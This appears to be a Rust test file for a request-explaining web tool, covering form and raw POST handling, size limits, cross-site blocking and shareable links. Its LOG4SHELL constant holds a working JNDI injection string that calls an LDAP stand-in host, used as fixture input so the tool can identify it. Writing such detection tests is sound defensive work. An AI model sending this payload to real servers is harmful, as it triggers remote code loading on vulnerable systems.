@@ -1,0 +1,165 @@
+//! Any request, explained: through haproxy, by a link, a form, or as the body of a POST. Nothing of it is recorded.
+
+use anyhow::{Context, ensure};
+use forever200_testkit::client::exchange;
+use forever200_testkit::{Response, Stack};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+
+const LOG4SHELL: &[u8] = b"GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: x\r\n\r\n";
+
+async fn post(
+    stack: &Stack,
+    content_type: &str,
+    more: &str,
+    body: &[u8],
+) -> anyhow::Result<Response> {
+    let head = format!(
+        "POST /home/explain HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\
+         Content-Type: {content_type}\r\n{more}Content-Length: {}\r\n\r\n",
+        body.len()
+    );
+    let (mut reply, _) = exchange(stack.front(), &[head.as_bytes(), body].concat()).await?;
+    Response::split_off(&mut reply, "POST").context("no whole response")
+}
+
+fn form(parts: &[(&str, &str, &[u8])]) -> Vec<u8> {
+    let mut body = Vec::new();
+    for (name, more, value) in parts {
+        let head = format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"{more}\r\n\r\n");
+        body.extend([head.as_bytes(), value, b"\r\n"].concat());
+    }
+    body.extend(b"--x--\r\n");
+    body
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_is_given_is_explained_and_not_recorded() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let multipart = "multipart/form-data; boundary=x";
+    let pasted = form(&[("request", "", LOG4SHELL), ("as", "", b"auto")]);
+    let chosen = form(&[
+        ("request", "", b""),
+        ("file", "; filename=\"x\"", LOG4SHELL),
+    ]);
+    let curls = "application/x-www-form-urlencoded";
+    for (content_type, body) in [
+        (multipart, &pasted[..]),
+        (multipart, &chosen),
+        (curls, LOG4SHELL),
+        ("application/octet-stream", LOG4SHELL),
+    ] {
+        let page = post(&stack, content_type, "", body).await?;
+        ensure!(page.status == 200, "{content_type}: {}", page.status);
+        ensure!(page.text().contains("Log4Shell"), "{}", page.text());
+    }
+    let list = forever200_testkit::get_json(stack.front(), "/home/api/requests").await?;
+    ensure!(list["total"] == 0, "{list}");
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn what_cannot_be_explained_is_said_on_the_form() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let multipart = "multipart/form-data; boundary=x";
+    let wrong = form(&[("request", "", b"<b>\"q"), ("as", "", b"hex")]);
+    let page = post(&stack, multipart, "", &wrong).await?;
+    ensure!(page.status == 400, "{}", page.status);
+    for part in ["This is not hex", "&lt;b&gt;", "selected>hex"] {
+        ensure!(page.text().contains(part), "{part}: {}", page.text());
+    }
+    let empty = post(&stack, multipart, "", &form(&[])).await?;
+    ensure!(empty.status == 400 && empty.text().contains("Nothing was given"));
+    let octets = "application/octet-stream";
+    for length in [65_537, 400_000, 2_000_000] {
+        let long = post(&stack, octets, "", &vec![b'a'; length]).await?;
+        ensure!(long.status == 413, "{length}: {}", long.status);
+        ensure!(long.text().contains("too long"), "{}", long.text());
+    }
+    ensure!(post(&stack, octets, "", &vec![b'a'; 65_536]).await?.status == 200);
+    for query in ["b64=!", "b64=a", "x=y"] {
+        let page = stack.get(&format!("/home/explain?{query}")).await?;
+        ensure!(page.status == 400, "{query}: {}", page.status);
+    }
+    ensure!(stack.get("/home/explain").await?.status == 200);
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_other_site_posts_here() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let from = |site: &str| format!("Sec-Fetch-Site: {site}\r\n");
+    for (site, status) in [
+        ("cross-site", 403),
+        ("same-site", 403),
+        ("same-origin", 200),
+    ] {
+        let page = post(&stack, "text/plain", &from(site), LOG4SHELL).await?;
+        ensure!(page.status == status, "{site}: {}", page.status);
+    }
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_body_without_an_end_is_given_up() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    let head = b"POST /home/explain HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\nGET /";
+    let mut stream = TcpStream::connect(stack.front()).await?;
+    stream.write_all(head).await?;
+    let mut reply = Vec::new();
+    // haproxy keeps the connection, for the rest may still come.
+    let page = loop {
+        ensure!(stream.read_buf(&mut reply).await? > 0, "closed");
+        if let Some(page) = Response::split_off(&mut reply, "POST") {
+            break page;
+        }
+    };
+    ensure!(page.status == 408, "{}", page.status);
+    ensure!(stack.get("/home/health").await?.status == 200);
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_request_outlives_the_ring_in_a_link_and_in_a_file() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    stack.send(LOG4SHELL).await?;
+    stack.until_recorded(1).await?;
+    let page = stack.get("/home/requests/1").await?.text();
+    let (_, link) = page
+        .split_once("href=\"/home/explain?b64=")
+        .context("no link")?;
+    let (link, _) = link.split_once('"').context("no end")?;
+    let linked = stack.get(&format!("/home/explain?b64={link}")).await?;
+    ensure!(linked.status == 200 && linked.text().contains("Log4Shell"));
+    let file = stack.get("/home/requests/1/html").await?;
+    ensure!(
+        file.header("content-disposition") == Some("attachment; filename=\"forever200-1.html\"")
+    );
+    ensure!(file.text().contains("Log4Shell"), "{}", file.text());
+    for part in ["<script", "\"/home", "<link"] {
+        ensure!(!file.text().contains(part), "{part}: {}", file.text());
+    }
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_longest_link_comes_through_with_what_a_browser_adds() -> anyhow::Result<()> {
+    let stack = Stack::start().await?;
+    for (length, is_linked) in [(5250, true), (5251, false)] {
+        let number = if is_linked { 1 } else { 2 };
+        stack.send(&vec![0xff; length]).await?;
+        stack.until_recorded(number).await?;
+        let page = stack.get(&format!("/home/requests/{number}")).await?;
+        let has_link = page.text().contains("href=\"/home/explain?b64=");
+        ensure!(has_link == is_linked, "{length}");
+    }
+    let link = "_".repeat(7000);
+    let headers = format!("User-Agent: {}\r\n", "x".repeat(900));
+    let request = format!(
+        "GET /home/explain?b64={link} HTTP/1.1\r\nHost: localhost\r\n{headers}Connection: close\r\n\r\n"
+    );
+    let (mut reply, _) = exchange(stack.front(), request.as_bytes()).await?;
+    let page = Response::split_off(&mut reply, "GET").context("no whole response")?;
+    ensure!(page.status == 200 && page.text().contains("5250 bytes"));
+    Ok(())
+}
